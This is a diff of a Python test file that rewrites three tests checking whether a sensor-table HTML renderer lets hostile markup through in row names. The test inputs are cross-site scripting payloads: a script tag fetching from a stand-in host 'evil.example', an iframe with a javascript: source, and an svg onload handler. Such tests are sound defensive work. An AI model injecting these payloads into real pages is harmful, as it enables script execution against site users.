@@ -19,15 +19,12 @@ def foreign(markup, allowed):
 
 
 def test_name_with_a_script(box):
-    got = box.attempt("sensor_rows", [("door", 18.0), ("<script>fetch('//evil.example')</script>", 3.0)]).value
-    assert not foreign(got, "tr td")
+    assert not foreign(box.attempt("sensor_row", "<script>fetch('//evil.example')</script>", 3.0).value, "tr td")
 
 
 def test_name_with_a_frame(box):
-    got = box.attempt("sensor_rows", [("</td><iframe src='javascript:alert(1)'></iframe>", 3.0)]).value
-    assert not foreign(got, "tr td")
+    assert not foreign(box.attempt("sensor_row", "</td><iframe src='javascript:alert(1)'></iframe>", 3.0).value, "tr td")
 
 
 def test_element_that_is_left_open(box):
-    got = box.attempt("sensor_rows", [("<svg onload=alert(1) ", 3.0), ("door", 1.0)]).value
-    assert not foreign(got, "tr td")
+    assert not foreign(box.attempt("sensor_row", "<svg onload=alert(1) ", 3.0).value, "tr td")
